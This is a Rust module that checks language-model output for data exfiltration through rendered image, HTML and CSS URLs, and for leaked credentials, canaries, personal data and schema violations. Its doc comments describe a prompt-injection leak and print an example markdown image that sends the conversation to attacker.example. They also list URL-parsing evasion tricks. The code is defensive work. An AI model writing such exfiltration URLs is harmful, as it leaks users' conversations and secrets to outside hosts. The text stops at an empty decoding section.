//! Model-output validation: what a model wrote is checked before it acts or renders.
//!
//! # Why
//! A model that has read an injected instruction needs no tool to leak what it knows: it only has to write it
//! where it will be sent. A markdown image is fetched the moment a chat window renders it, with no click, so
//! `![](https://attacker.example/p.png?d=<the conversation>)` carries the conversation to whoever owns that host.
//! Reference-style images and HTML do the same. A model may also repeat a credential or a canary it was shown,
//! or return "JSON" that the caller's code then trusts. [`validate`] checks one output for all of these and
//! gives a verdict with its findings.
//!
//! # What is checked
//! | finding | what | verdict |
//! |---|---|---|
//! | [`FindingKind::ImageExfiltration`] | a URL fetched as the output renders (markdown image, `<img src>`, `srcset`, `<iframe src>`, `<link href>`, CSS `url()`) that carries data to a host not allowed | block |
//! | [`FindingKind::LinkExfiltration`] | a link, autolink or bare URL that carries data to a host not allowed | flag |
//! | [`FindingKind::ScriptUrl`] | a `javascript:` or `vbscript:` URL in any of those | block |
//! | [`FindingKind::DataUrl`] | a `data:` URL in any of those | flag |
//! | [`FindingKind::Credential`] | a credential, by the redaction engine's rules | block |
//! | [`FindingKind::PersonalData`] | personal data of the families in [`OutputPolicy::pii`] | flag |
//! | [`FindingKind::KnownValue`] | a canary or vault secret, in any encoding [`LeakScanner`] knows | block |
//! | [`FindingKind::Schema`] | not JSON, or JSON that [`OutputPolicy::schema`] rejects | block |
//! | [`FindingKind::Length`] | longer than [`OutputPolicy::max_length_ratio`] times the input | flag |
//!
//! A URL *carries data* when it has a query, a fragment, userinfo, or a path segment or host label that looks like
//! data: at least 24 bytes long, percent-encoded bytes, or at least 16 hex digits or mixed-case base64 characters.
//! A URL to a host not allowed that carries none is a citation, and passes.
//!
//! # How URLs are found
//! Renderers disagree on edge cases, so every pass errs towards the stronger reading: what could render as an
//! image counts as one. Each pass is linear in the output.
//! - Markdown: brackets on a stack. After `![`, every link destination in the same paragraph counts as an image
//!   until a destination closes that bracket, so a code span or HTML tag in the alt text cannot turn an image into
//!   a link. If any image uses a reference (`![x][id]`, `![id][]`, `![id]`), every reference definition
//!   (`[id]: url`) counts as an image's.
//! - HTML: tags read as a browser reads them (a quoted value may hold `<` and `>`); a tag whose quote never closes
//!   is read again from inside the quote, as a markdown renderer that rejects it would. `src`, `srcset`, `poster`,
//!   `background`, `data`, and `href` on anything but `<a>` and `<area>`, are fetched; `href`, `action` and `ping`
//!   on links wait for a click. Autolinks `<scheme:...>` are links.
//! - CSS: `url(...)` anywhere.
//! - Bare `http://`, `https://` and `www.` URLs that no pass above found.
//!
//! Destinations are decoded as the renderer decodes them (backslash escapes, character references such as
//! `&#106;`) and parsed by the `url` crate, which follows the WHATWG rules browsers use, relative to a base on
//! `airlock.invalid`. So `//host`, `\\host`, `https://allowed.example@host/`, `%2e`, and tabs inside the scheme all
//! resolve to the host a browser would contact. A relative URL stays on the page's own origin and passes.
//!
//! # Allowed hosts
//! [`OutputPolicy::allowed_hosts`] entries are a host (`docs.rs`: that host only) or `*.example.com` (every
//! subdomain at any depth, not `example.com` itself: list both to allow both). Case-insensitive; a trailing dot is
//! ignored; IP addresses match exactly. IDNA is not attempted: a host written with any non-ASCII character, or
//! percent-encoded bytes above 0x7f, is never allowed, even where it maps to an allowed one.
//!
//! # Limits
//! - Data split into short path segments (`/a3/f9/...`), across several URLs, or sent through an allowed host
//!   (an open redirect, a search page, a paste site).
//! - A host reached under another name (a DNS alias, an IP address for an allowed name).
//! - CSS escapes, `@import` without `url()`, SVG beyond `href`/`xlink:href`.
//! - Code spans and code blocks are not exempt: a URL in them is judged like any other.
//! - Surrogates ([`Source::Surrogate`]) in output are not findings: the agent is meant to see them.
//! - The schema check costs what the schema asks for; schemas come from the operator, not from the model.

use std::fmt;
use std::net::IpAddr;
use std::ops::Range;
use std::sync::{Arc, OnceLock};

use aho_corasick::{AhoCorasick, Input, MatchKind};
use airlock_redact::known::{LeakScanner, Source};
use airlock_redact::{PiiSelection, RuleSet, ScanOptions, Scanner};
use url::{Host, Url};

use crate::score::Verdict;

/// A path segment or host label at least this long is data.
const LONG_SEGMENT: usize = 24;
/// A path segment or host label of at least this many hex digits, or mixed-case base64 characters, is data.
const ENCODED_SEGMENT: usize = 16;
/// At most this many schema errors are reported, one finding each.
const SCHEMA_ERRORS: usize = 3;
/// Relative URLs are resolved against this; a URL that lands on it stays on the page's own origin.
const BASE_URL: &str = "https://airlock.invalid/";
const BASE_HOST: &str = "airlock.invalid";
/// Where the output schema is registered while it compiles. Its `$ref`s resolve against this, and loading any of
/// them is refused.
const SCHEMA_LOCATION: &str = "https://airlock.invalid/output-schema.json";

/// What an output may do. The default allows no host, checks neither length nor schema, and flags payment card
/// numbers, IBANs and US social security numbers.
#[derive(Debug, Clone)]
pub struct OutputPolicy {
    /// Hosts a URL may carry data to: `docs.rs`, or `*.example.com` for every subdomain (not the apex). See the
    /// module documentation. An entry with a non-ASCII character matches nothing.
    pub allowed_hosts: Vec<String>,
    /// Flag an output longer (in bytes) than this many times its input. Checked only when [`validate`] is given the
    /// input's length, at least 1; a ratio that is not a positive finite number checks nothing.
    pub max_length_ratio: Option<f64>,
    /// The output must be JSON this schema accepts.
    pub schema: Option<OutputSchema>,
    /// Personal-data families to flag, by the redaction engine's names: `email`, `phone`, `credit-card`, `iban`,
    /// `us-ssn`, `ip-address`. Addresses and phone numbers are everyday content in answers, so the default takes
    /// only the families that are checksummed or rarely benign.
    pub pii: PiiSelection,
}

impl Default for OutputPolicy {
    fn default() -> OutputPolicy {
        OutputPolicy {
            allowed_hosts: Vec::new(),
            max_length_ratio: None,
            schema: None,
            pii: PiiSelection::Only(vec!["credit-card".to_string(), "iban".to_string(), "us-ssn".to_string()]),
        }
    }
}

/// A compiled JSON Schema (draft 2020-12 unless its `$schema` names another of drafts 4, 6, 7 or 2019-09).
///
/// Compiling never reads a file or the network: the drafts' meta-schemas are built in, and a `$ref` to anything
/// outside the schema itself is an error. `pattern` runs on the linear-time `regex` crate.
#[derive(Clone)]
pub struct OutputSchema {
    schemas: Arc<boon::Schemas>,
    index: boon::SchemaIndex,
}

impl fmt::Debug for OutputSchema {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("OutputSchema").field("schemas", &self.schemas.size()).finish()
    }
}

/// A schema that did not compile, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SchemaError(pub String);

impl fmt::Display for SchemaError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for SchemaError {}

impl OutputSchema {
    pub fn compile(schema: &serde_json::Value) -> Result<OutputSchema, SchemaError> {
        let mut compiler = boon::Compiler::new();
        compiler.set_default_draft(boon::Draft::V2020_12);
        compiler.use_loader(Box::new(NoFetch));
        compiler.add_resource(SCHEMA_LOCATION, schema.clone()).map_err(|e| SchemaError(e.to_string()))?;
        let mut schemas = boon::Schemas::new();
        let index = compiler.compile(SCHEMA_LOCATION, &mut schemas).map_err(|e| SchemaError(error_chain(&e)))?;
        Ok(OutputSchema { schemas: Arc::new(schemas), index })
    }
}

/// The schema loader: refuses every URL, so a `$ref` can never fetch or read anything.
struct NoFetch;

impl boon::UrlLoader for NoFetch {
    fn load(&self, url: &str) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
        Err(format!("refused to load {url}: an output schema must be self-contained (no remote or file $ref)").into())
    }
}

/// An error and its sources, as one line.
fn error_chain(e: &dyn std::error::Error) -> String {
    let mut s = e.to_string();
    let mut source = e.source();
    while let Some(cause) = source {
        s += &format!(": {cause}");
        source = cause.source();
    }
    s
}

/// What was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FindingKind {
    /// A URL fetched as the output renders, carrying data to a host not allowed. Block.
    ImageExfiltration,
    /// A link or bare URL carrying data to a host not allowed: sent when someone clicks. Flag.
    LinkExfiltration,
    /// A `javascript:` or `vbscript:` URL. Block.
    ScriptUrl,
    /// A `data:` URL. Flag.
    DataUrl,
    /// A credential. Block.
    Credential,
    /// Personal data of a family the policy names. Flag.
    PersonalData,
    /// A canary or vault secret. Block.
    KnownValue,
    /// Not JSON, or JSON the schema rejects. Block.
    Schema,
    /// Longer than the policy's ratio to the input. Flag.
    Length,
}

impl FindingKind {
    pub fn as_str(self) -> &'static str {
        match self {
            FindingKind::ImageExfiltration => "image-exfiltration",
            FindingKind::LinkExfiltration => "link-exfiltration",
            FindingKind::ScriptUrl => "script-url",
            FindingKind::DataUrl => "data-url",
            FindingKind::Credential => "credential",
            FindingKind::PersonalData => "personal-data",
            FindingKind::KnownValue => "known-value",
            FindingKind::Schema => "schema",
            FindingKind::Length => "length",
        }
    }

    pub fn verdict(self) -> Verdict {
        match self {
            FindingKind::ImageExfiltration
            | FindingKind::ScriptUrl
            | FindingKind::Credential
            | FindingKind::KnownValue
            | FindingKind::Schema => Verdict::Block,
            FindingKind::LinkExfiltration | FindingKind::DataUrl | FindingKind::PersonalData | FindingKind::Length => {
                Verdict::Flag
            }
        }
    }
}

/// One finding. `detail` names the rule, secret id, host or schema path; never a value found in the output.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OutputFinding {
    pub kind: FindingKind,
    pub detail: String,
    /// Byte span in the output: the URL as written, the credential, the known value; the whole output for a
    /// schema finding; the bytes past the limit for a length finding.
    pub span: Range<usize>,
}

/// The verdict (the worst finding's; allow if none) and the findings, in order of where they start.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OutputValidation {
    pub verdict: Verdict,
    pub findings: Vec<OutputFinding>,
}

/// Checks a model's `output` against `policy`. `input_len` is the length in bytes of what the model was given, for
/// the length check; `known` holds the canaries and vault secrets to look for.
pub fn validate(
    output: &str,
    input_len: Option<usize>,
    policy: &OutputPolicy,
    known: Option<&LeakScanner>,
) -> OutputValidation {
    let mut findings = Vec::new();
    check_urls(output, &policy.allowed_hosts, &mut findings);
    check_secrets(output, &policy.pii, &mut findings);
    if let Some(known) = known {
        check_known(output, known, &mut findings);
    }
    if let Some(schema) = &policy.schema {
        check_schema(output, schema, &mut findings);
    }
    if let (Some(input_len), Some(ratio)) = (input_len, policy.max_length_ratio) {
        check_length(output, input_len, ratio, &mut findings);
    }
    findings.sort_by_key(|f| (f.span.start, f.span.end));
    findings.dedup();
    let verdict = findings.iter().map(|f| f.kind.verdict()).max().unwrap_or(Verdict::Allow);
    OutputValidation { verdict, findings }
}

// ---------------------------------------------------------------------------------------------------------------
// URLs

/// How a rendered page uses a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    /// Followed when someone clicks.
    Link,
    /// Fetched as the page renders, with no click.
    Fetch,
}

/// A URL found in the output.
#[derive(Debug)]
struct Target {
    /// Where it is written (for `srcset`, the whole attribute value).
    span: Range<usize>,
    /// As the renderer reads it: escapes and character references decoded.
    url: String,
    usage: Use,
    /// What wrote it, for the finding's detail: `markdown image`, `<img src>`, ...
    what: String,
}

fn check_urls(output: &str, allowed_hosts: &[String], findings: &mut Vec<OutputFinding>) {
    let allowed: Vec<HostRule> = allowed_hosts.iter().filter_map(|h| HostRule::parse(h)).collect();
    let lower = output.to_ascii_lowercase();
    let mut targets = Vec::new();
    markdown_targets(output, &mut targets);
    html_targets(output, &mut targets);
    css_targets(output, &lower, &mut targets);
    let covered = covered_spans(&targets);
    bare_targets(output, &lower, &covered, &mut targets);
    // One finding per URL: where two passes (or two readings) judged the same span, the stronger one.
    let mut found: Vec<OutputFinding> = targets.iter().filter_map(|t| judge(t, &allowed)).collect();
    found.sort_by_key(|f| (f.span.start, f.span.end, std::cmp::Reverse(f.kind.verdict())));
    found.dedup_by(|later, first| later.span == first.span);
    findings.extend(found);
}

/// The finding for one URL, if it is one.
fn judge(t: &Target, allowed: &[HostRule]) -> Option<OutputFinding> {
    let url = parse_url(&t.url)?;
    let finding = |kind: FindingKind, detail: String| Some(OutputFinding { kind, detail, span: t.span.clone() });
    match url.scheme() {
        "javascript" | "vbscript" => {
            return finding(FindingKind::ScriptUrl, format!("{}: a {}: URL", t.what, url.scheme()));
        }
        "data" => return finding(FindingKind::DataUrl, format!("{}: a data: URL", t.what)),
        _ => {}
    }
    if host_allowed(&url, &t.url, allowed) {
        return None;
    }
    let parts = data_parts(&url);
    if parts.is_empty() {
        return None;
    }
    let kind = match t.usage {
        Use::Fetch => FindingKind::ImageExfiltration,
        Use::Link => FindingKind::LinkExfiltration,
    };
    finding(kind, format!("{} to {} carries data in its {}", t.what, shown_host(&url), parts.join(", ")))
}

/// The URL a browser would use, or `None` for one it could not parse or one on the page's own origin.
fn parse_url(raw: &str) -> Option<Url> {
    match Url::parse(raw) {
        Ok(url) => Some(url),
        Err(url::ParseError::RelativeUrlWithoutBase) => {
            let base = Url::parse(BASE_URL).expect("the base URL parses");
            let url = base.join(raw).ok()?;
            (url.host_str() != Some(BASE_HOST)).then_some(url)
        }
        Err(_) => None,
    }
}

/// An entry of [`OutputPolicy::allowed_hosts`], normalised.
#[derive(Debug, Clone, PartialEq, Eq)]
enum HostRule {
    /// This host only (a lowercase name without trailing dot, or an IP address as `IpAddr` prints it).
    Exact(String),
    /// Every subdomain of this name, at any depth; not the name itself.
    Subdomains(String),
}

impl HostRule {
    fn parse(entry: &str) -> Option<HostRule> {
        let entry = entry.trim();
        if entry.is_empty() || !entry.is_ascii() {
            return None;
        }
        let entry = entry.to_ascii_lowercase();
        let entry = entry.strip_suffix('.').unwrap_or(&entry);
        let bare = entry.strip_prefix('[').and_then(|e| e.strip_suffix(']')).unwrap_or(entry);
        if let Ok(ip) = bare.parse::<IpAddr>() {
            return Some(HostRule::Exact(ip.to_string()));
        }
        match entry.strip_prefix("*.") {
            Some(parent) if !parent.is_empty() && !parent.contains('*') => {
                Some(HostRule::Subdomains(parent.to_string()))
            }
            None if !entry.contains('*') => Some(HostRule::Exact(entry.to_string())),
            _ => None,
        }
    }

    /// `host` is lowercase, without trailing dot; `domain` says it is a name, not an address.
    fn matches(&self, host: &str, domain: bool) -> bool {
        match self {
            HostRule::Exact(h) => host == h,
            HostRule::Subdomains(parent) => {
                domain
                    && host.len() > parent.len() + 1
                    && host.ends_with(parent.as_str())
                    && host.as_bytes()[host.len() - parent.len() - 1] == b'.'
            }
        }
    }
}

/// Whether `url` (written as `raw`) goes to an allowed host.
fn host_allowed(url: &Url, raw: &str, allowed: &[HostRule]) -> bool {
    if !authority_written_in_ascii(raw) {
        return false;
    }
    let (host, domain) = match url.host() {
        Some(Host::Domain(d)) => (d.strip_suffix('.').unwrap_or(d).to_ascii_lowercase(), true),
        Some(Host::Ipv4(a)) => (a.to_string(), false),
        Some(Host::Ipv6(a)) => (a.to_string(), false),
        None => return false,
    };
    allowed.iter().any(|rule| rule.matches(&host, domain))
}

/// Whether the authority (userinfo and host) was written in ASCII: no other character, and no percent-encoded byte
/// above 0x7f. The URL parser decodes both and maps look-alikes (fullwidth letters, mathematical letters) to ASCII,
/// so `https://ｄocs.rs/` would otherwise pass for `docs.rs`.
fn authority_written_in_ascii(raw: &str) -> bool {
    // As the parser does: tabs and newlines anywhere are dropped, leading controls and spaces are trimmed.
    let cleaned: String = raw.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let s = cleaned.trim_start_matches(|c: char| c <= ' ');
    let after_scheme = match s.find(':') {
        Some(colon) if is_scheme(&s[..colon]) => &s[colon + 1..],
        _ => s,
    };
    let rest = after_scheme.trim_start_matches(['/', '\\']);
    let authority = &rest[..rest.find(['/', '\\', '?', '#']).unwrap_or(rest.len())];
    authority.is_ascii() && !has_high_percent_byte(authority)
}

fn is_scheme(s: &str) -> bool {
    let mut bytes = s.bytes();
    bytes.next().is_some_and(|c| c.is_ascii_alphabetic())
        && bytes.all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
}

/// `%XX` with XX at least 0x80.
fn has_high_percent_byte(s: &str) -> bool {
    s.as_bytes()
        .windows(3)
        .any(|w| w[0] == b'%' && matches!(w[1], b'8'..=b'9' | b'a'..=b'f' | b'A'..=b'F') && w[2].is_ascii_hexdigit())
}

/// The parts of `url` that carry data: userinfo, host, path, query, fragment.
fn data_parts(url: &Url) -> Vec<&'static str> {
    let mut parts = Vec::new();
    if !url.username().is_empty() || url.password().is_some() {
        parts.push("userinfo");
    }
    if let Some(Host::Domain(d)) = url.host()
        && d.split('.').any(looks_like_data)
    {
        parts.push("host");
    }
    let path_data = match url.path_segments() {
        Some(mut segments) => segments.any(looks_like_data),
        // An opaque path (`mailto:`): judged piece by piece, so a long address is not data by its length alone.
        None => url.path().split(['@', '.', ',']).any(looks_like_data),
    };
    if path_data {
        parts.push("path");
    }
    if url.query().is_some_and(|q| !q.is_empty()) {
        parts.push("query");
    }
    if url.fragment().is_some_and(|f| !f.is_empty()) {
        parts.push("fragment");
    }
    parts
}

/// A path segment or host label that looks like data rather than a name.
fn looks_like_data(s: &str) -> bool {
    if s.len() >= LONG_SEGMENT || s.contains('%') {
        return true;
    }
    if s.len() < ENCODED_SEGMENT {
        return false;
    }
    let b = s.as_bytes();
    let digit = b.iter().any(u8::is_ascii_digit);
    let upper = b.iter().any(u8::is_ascii_uppercase);
    let lower = b.iter().any(u8::is_ascii_lowercase);
    let hex = b.iter().all(u8::is_ascii_hexdigit) && digit && (upper || lower);
    let base64 = b.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
        && digit
        && upper
        && lower;
    hex || base64
}

/// The host for a finding's detail: a host whose labels carry data is shown by its last two labels only.
fn shown_host(url: &Url) -> String {
    match url.host() {
        Some(Host::Domain(d)) => {
            let d = d.strip_suffix('.').unwrap_or(d);
            if d.split('.').any(looks_like_data) {
                let labels: Vec<&str> = d.rsplit('.').take(2).collect();
                format!("a subdomain of {}.{}", labels.get(1).unwrap_or(&""), labels[0])
            } else {
                d.to_string()
            }
        }
        Some(host) => host.to_string(),
        None => format!("a {}: URL", url.scheme()),
    }
}

// Markdown ---------------------------------------------------------------------------------------------------------

/// Link destinations, image sources and reference definitions in markdown.
fn markdown_targets(text: &str, out: &mut Vec<Target>) {
    let b = text.as_bytes();
    // Open brackets, innermost last: `true` for `![`.
    let mut openers: Vec<bool> = Vec::new();
    // `![` opened in this paragraph and not yet closed by a destination: while any is, destinations are images.
    let mut open_images: usize = 0;
    // Some image uses a reference definition.
    let mut image_references = false;
    let mut definitions: Vec<Range<usize>> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' if b.get(i + 1).is_some_and(u8::is_ascii_punctuation) => {
                i += 2;
                continue;
            }
            b'\n' if blank_line_at(b, i + 1) => {
                openers.clear();
                open_images = 0;
            }
            b'!' if b.get(i + 1) == Some(&b'[') => {
                openers.push(true);
                open_images += 1;
                i += 2;
                continue;
            }
            b'[' => openers.push(false),
            b']' => {
                let opener = openers.pop();
                let image = open_images > 0;
                let mut next = i + 1;
                while next < b.len() && matches!(b[next], b' ' | b'\t') {
                    next += 1;
                }
                match b.get(next) {
                    Some(b'(') => {
                        if opener == Some(true) {
                            open_images -= 1;
                        }
                        let (span, resume) = destination(b, next + 1);
                        if let Some(span) = span {
                            let (usage, what) =
                                if image { (Use::Fetch, "markdown image") } else { (Use::Link, "markdown link") };
                            push_markdown(text, span, usage, what, out);
                        }
                        i = resume;
                        continue;
                    }
                    Some(b'[') => {
                        // `[text][label]` or `[text][]`; the label's own brackets are scanned as usual.
                        image_references |= image;
                        if opener == Some(true) {
                            open_images -= 1;
                        }
                    }
                    _ if b.get(i + 1) == Some(&b':') && opener == Some(false) => {
                        let (span, resume) = destination(b, i + 2);
                        definitions.extend(span);
                        i = resume;
                        continue;
                    }
                    // `![label]`, or a bracket inside alt text.
                    _ => image_references |= image,
                }
            }
            _ => {}
        }
        i += 1;
    }
    let (usage, what) =
        if image_references { (Use::Fetch, "reference-style image") } else { (Use::Link, "reference definition") };
    for span in definitions {
        push_markdown(text, span, usage, what, out);
    }
}

/// A markdown destination, decoded as CommonMark decodes it; and if a renderer that ignores backslash escapes would
/// read another URL (`\\host` is `\host` to one, `\\host` to the other), that one too.
fn push_markdown(text: &str, span: Range<usize>, usage: Use, what: &str, out: &mut Vec<Target>) {
    let escaped = decode(&text[span.clone()], true);
    let literal = decode(&text[span.clone()], false);
    if literal != escaped {
        out.push(Target { span: span.clone(), url: literal, usage, what: what.to_string() });
    }
    out.push(Target { span, url: escaped, usage, what: what.to_string() });
}

/// Whether a blank line (only spaces and tabs) starts at `at`: it ends a paragraph.
fn blank_line_at(b: &[u8], at: usize) -> bool {
    let mut i = at;
    while i < b.len() && matches!(b[i], b' ' | b'\t') {
        i += 1;
    }
    i < b.len() && matches!(b[i], b'\n' | b'\r')
}

/// The link destination after `at` (just after `(`, or after a definition's `:`), and where scanning goes on.
/// `<...>` or a run without spaces and controls whose parentheses balance; taken even where CommonMark would not
/// accept it (an unclosed `<`, unbalanced parentheses), as some renderers do.
fn destination(b: &[u8], at: usize) -> (Option<Range<usize>>, usize) {
    let mut i = at;
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r') {
        i += 1;
    }
    if b.get(i) == Some(&b'<') {
        let start = i + 1;
        let mut end = start;
        while end < b.len() && !matches!(b[end], b'>' | b'<' | b'\n' | b'\r') {
            end += if b[end] == b'\\' && b.get(end + 1).is_some_and(u8::is_ascii_punctuation) { 2 } else { 1 };
        }
        let end = end.min(b.len());
        return ((end > start).then_some(start..end), end);
    }
    let start = i;
    let mut depth = 0usize;
    while i < b.len() {
        match b[i] {
            b'\\' if b.get(i + 1).is_some_and(u8::is_ascii_punctuation) => {
                i += 2;
                continue;
            }
            b'(' => depth += 1,
            b')' if depth == 0 => break,
            b')' => depth -= 1,
            c if c <= b' ' || c == 0x7f => break,
            _ => {}
        }
        i += 1;
    }
    ((i > start).then_some(start..i), i)
}

// HTML -------------------------------------------------------------------------------------------------------------

/// URL attributes of HTML tags, and autolinks `<scheme:...>`.
fn html_targets(text: &str, out: &mut Vec<Target>) {
    let b = text.as_bytes();
    // A quote with no partner after it is unclosed; knowing where the last one is keeps the scan linear.
    let last_double = b.iter().rposition(|&c| c == b'"');
    let last_single = b.iter().rposition(|&c| c == b'\'');
    let mut i = 0;
    while let Some(offset) = b[i..].iter().position(|&c| c == b'<') {
        i += offset + 1;
        if let Some(end) = autolink_end(b, i) {
            out.push(Target { span: i..end, url: text[i..end].to_string(), usage: Use::Link, what: "autolink".into() });
            i = end + 1;
            continue;
        }
        if !b.get(i).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let name_start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'/' | b'>') {
            i += 1;
        }
        let tag = text[name_start..i].to_ascii_lowercase();
        // Attributes, up to the `>` that ends the tag.
        loop {
            while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
                i += 1;
            }
            if i >= b.len() {
                break;
            }
            if b[i] == b'>' {
                i += 1;
                break;
            }
            let attr_start = i;
            i += 1;
            while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'/' | b'>' | b'=') {
                i += 1;
            }
            let attr = text[attr_start..i].to_ascii_lowercase();
            let mut j = i;
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            if b.get(j) != Some(&b'=') {
                continue;
            }
            j += 1;
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            let value = match b.get(j) {
                Some(&quote @ (b'"' | b'\'')) => {
                    let last = if quote == b'"' { last_double } else { last_single };
                    if last.is_none_or(|last| last <= j) {
                        // Unclosed: a browser swallows the rest; a markdown renderer shows the tag as text and
                        // renders the tags inside the quote. Read on from inside it.
                        i = j + 1;
                        break;
                    }
                    let close = j + 1 + b[j + 1..].iter().position(|&c| c == quote).expect("a later quote exists");
                    i = close + 1;
                    j + 1..close
                }
                _ => {
                    let start = j;
                    while j < b.len() && !b[j].is_ascii_whitespace() && b[j] != b'>' {
                        j += 1;
                    }
                    i = j;
                    start..j
                }
            };
            let Some(usage) = attribute_use(&tag, &attr) else { continue };
            let decoded = decode(&text[value.clone()], false);
            let what = format!("<{tag} {attr}>");
            if attr == "srcset" || attr == "imagesrcset" {
                for url in srcset_urls(&decoded) {
                    out.push(Target { span: value.clone(), url: url.to_string(), usage, what: what.clone() });
                }
            } else {
                out.push(Target { span: value, url: decoded, usage, what });
            }
        }
    }
}

/// How a page uses the URL in this attribute of this tag; `None` for attributes that hold no URL.
fn attribute_use(tag: &str, attr: &str) -> Option<Use> {
    match attr {
        "src" | "srcset" | "imagesrcset" | "poster" | "background" | "lowsrc" | "dynsrc" | "data" => Some(Use::Fetch),
        // `<link>`, `<base>`, SVG `<image>` and `<use>` fetch; only a hyperlink waits for a click.
        "href" | "xlink:href" => Some(if tag == "a" || tag == "area" { Use::Link } else { Use::Fetch }),
        "action" | "formaction" | "ping" | "cite" | "longdesc" => Some(Use::Link),
        _ => None,
    }
}

/// The URLs of a `srcset` value: `url [descriptor], url [descriptor], ...`.
fn srcset_urls(value: &str) -> Vec<&str> {
    let b = value.as_bytes();
    let mut urls = Vec::new();
    let mut i = 0;
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b',') {
            i += 1;
        }
        if i >= b.len() {
            return urls;
        }
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() {
            i += 1;
        }
        let url = value[start..i].trim_end_matches(',');
        urls.push(url);
        if value[start..i].ends_with(',') {
            continue;
        }
        // Descriptors run to the next comma outside parentheses.
        let mut depth = 0usize;
        while i < b.len() && !(b[i] == b',' && depth == 0) {
            match b[i] {
                b'(' => depth += 1,
                b')' => depth = depth.saturating_sub(1),
                _ => {}
            }
            i += 1;
        }
    }
}

/// If an autolink starts at `at` (just after `<`): the index of its closing `>`. A scheme of 2 to 32 characters,
/// `:`, then anything but spaces, controls, `<` and `>`.
fn autolink_end(b: &[u8], at: usize) -> Option<usize> {
    let mut i = at;
    if !b.get(i)?.is_ascii_alphabetic() {
        return None;
    }
    i += 1;
    while i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'+' | b'.' | b'-')) {
        i += 1;
    }
    if !(2..=32).contains(&(i - at)) || b.get(i) != Some(&b':') {
        return None;
    }
    while i < b.len() && !(b[i] <= b' ' || matches!(b[i], b'<' | b'>' | 0x7f)) {
        i += 1;
    }
    (b.get(i) == Some(&b'>')).then_some(i)
}

// CSS and bare URLs ------------------------------------------------------------------------------------------------

/// CSS `url(...)`, anywhere (`style` attributes, `<style>` blocks).
fn css_targets(text: &str, lower: &str, out: &mut Vec<Target>) {
    let b = text.as_bytes();
    let mut from = 0;
    while let Some(offset) = lower[from..].find("url(") {
        let mut i = from + offset + 4;
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let (start, stop): (usize, &[u8]) = match b.get(i) {
            Some(b'"') => (i + 1, b"\"\n"),
            Some(b'\'') => (i + 1, b"'\n"),
            _ => (i, b") \t\r\n"),
        };
        let mut end = start;
        while end < b.len() && !stop.contains(&b[end]) {
            end += 1;
        }
        if end > start {
            out.push(Target {
                span: start..end,
                url: decode(&text[start..end], false),
                usage: Use::Fetch,
                what: "CSS url()".into(),
            });
        }
        // On from where this one ended: a run of `url(` without `)` is read once, not once per `url(`.
        from = end.max(i);
    }
}

/// The spans the passes before the bare-URL pass found, merged and sorted.
fn covered_spans(targets: &[Target]) -> Vec<Range<usize>> {
    let mut spans: Vec<Range<usize>> = targets.iter().map(|t| t.span.clone()).collect();
    spans.sort_by_key(|s| s.start);
    let mut merged: Vec<Range<usize>> = Vec::new();
    for s in spans {
        match merged.last_mut() {
            Some(last) if s.start <= last.end => last.end = last.end.max(s.end),
            _ => merged.push(s),
        }
    }
    merged
}

fn is_covered(covered: &[Range<usize>], at: usize) -> bool {
    let after = covered.partition_point(|s| s.start <= at);
    after > 0 && at < covered[after - 1].end
}

fn bare_url_starts() -> &'static AhoCorasick {
    static STARTS: OnceLock<AhoCorasick> = OnceLock::new();
    STARTS.get_or_init(|| {
        AhoCorasick::builder()
            .match_kind(MatchKind::LeftmostFirst)
            .build(["https://", "http://", "www."])
            .expect("three literals build")
    })
}

/// Bare `http://`, `https://` and `www.` URLs (as GitHub-flavoured markdown links them) that no other pass found.
fn bare_targets(text: &str, lower: &str, covered: &[Range<usize>], out: &mut Vec<Target>) {
    let b = text.as_bytes();
    let mut at = 0;
    while let Some(m) = bare_url_starts().find(Input::new(lower).span(at..lower.len())) {
        let start = m.start();
        let www = m.pattern().as_usize() == 2;
        if www && start > 0 && b[start - 1].is_ascii_alphanumeric() {
            at = m.end();
            continue;
        }
        let mut end = start;
        while end < b.len() && !(b[end] <= b' ' || matches!(b[end], b'<' | b'>' | b'"' | b'`' | 0x7f)) {
            end += 1;
        }
        end = trim_url_end(&text[start..end]) + start;
        at = end.max(m.end());
        if end <= m.end() || is_covered(covered, start) {
            continue;
        }
        let raw = &text[start..end];
        let url = if www { format!("http://{raw}") } else { raw.to_string() };
        out.push(Target { span: start..end, url, usage: Use::Link, what: "URL".into() });
    }
}

/// The length of `url` without the trailing punctuation a sentence adds (`.`, `,`, a closing `)` with no partner).
fn trim_url_end(url: &str) -> usize {
    let b = url.as_bytes();
    let mut open = b.iter().filter(|&&c| c == b'(').count();
    let mut close = b.iter().filter(|&&c| c == b')').count();
    let mut end = b.len();
    while end > 0 {
        match b[end - 1] {
            b'?' | b'!' | b'.' | b',' | b':' | b';' | b'*' | b'_' | b'~' | b'\'' => end -= 1,
            b')' if close > open => {
                close -= 1;
                end -= 1;
            }
            b'(' => {
                open -= 1;
                end -= 1;
            }
            _ => break,
        }
    }
    end
}

// Decoding ---------------------------------------------------------------------------------------------------------

